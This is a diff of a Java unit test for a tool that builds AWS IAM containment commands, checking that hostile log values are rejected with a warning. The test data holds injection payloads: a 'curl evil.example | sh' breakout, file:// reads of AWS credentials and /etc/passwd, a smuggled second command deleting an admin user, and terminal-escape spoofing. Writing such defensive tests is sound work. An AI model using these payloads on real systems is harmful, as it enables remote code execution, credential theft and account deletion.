@@ -11,6 +11,7 @@ import java.util.List;
 import java.util.Optional;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 class ContainmentTest {
@@ -29,12 +30,40 @@ class ContainmentTest {
     }
 
     @Test
-    void valuesFromTheLogsCannotBreakOutOfTheirShellQuotes() {
-        String hostile = "x'; curl evil.example | sh; echo '";
-        List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()),
-                List.of(change("CreateLoginProfile", hostile, null)), AS_OF);
-        assertEquals(List.of("aws iam delete-login-profile --user-name 'x'\\''; curl evil.example | sh; echo '\\'''"),
-                steps.get(0).commands());
+    void aValueThatIsNoValidAwsNameGetsNoCommandButAWarning() {
+        for (String hostile : List.of("x'; curl evil.example | sh; echo '", "file://~/.aws/credentials",
+                "fileb:///etc/passwd", "http://127.0.0.1:8765/x", "HTTPS://evil.example",
+                "svc-tmp\naws iam delete-user --user-name break-glass-admin #", "a".repeat(65), "")) {
+            List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()),
+                    List.of(change("CreateUser", hostile, null)), AS_OF);
+            ContainmentStep step = steps.get(0);
+            assertEquals(List.of(), step.commands(), hostile);
+            assertTrue(step.warning().orElseThrow().contains("IAM user name " + hostile), step.warning().get());
+        }
+    }
+
+    @Test
+    void validNamesGoInQuotedAndPlaceholdersStandForMissingOnes() {
+        List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()), List.of(
+                change("CreateLoginProfile", "svc.backup+ops=1,x@y_z-2", null),
+                change("AttachUserPolicy", null, "arn:aws:iam::123456789012:policy/path/to/app-policy")), AS_OF);
+        assertEquals(List.of("aws iam delete-login-profile --user-name 'svc.backup+ops=1,x@y_z-2'"), steps.get(0).commands());
+        assertEquals(List.of("aws iam detach-user-policy --user-name <user> "
+                + "--policy-arn 'arn:aws:iam::123456789012:policy/path/to/app-policy'"), steps.get(1).commands());
+        assertTrue(steps.get(0).warning().isEmpty());
+    }
+
+    @Test
+    void noParameterGrammarLetsInWhatTheAwsCliWouldLoadOrASecondLine() {
+        for (AwsParameter p : AwsParameter.values()) {
+            for (String v : List.of("file://x", "fileb://x", "http://x", "https://x", "a\nb", "a\rb")) {
+                assertFalse(p.accepts(v), p + " " + v);
+            }
+        }
+        assertTrue(AwsParameter.ACCESS_KEY_ID.accepts("ASIA0000000000000001"));
+        assertFalse(AwsParameter.ACCESS_KEY_ID.accepts("AKIAFAKE\u001b[2K\rAKIALEGIT00000000000"));
+        assertTrue(AwsParameter.TRAIL.accepts("arn:aws:cloudtrail:eu-west-1:210987654321:trail/security-tooling-trail"));
+        assertEquals("'it'\\''s'", AwsCommand.sh("it's"));
     }
 
     @Test
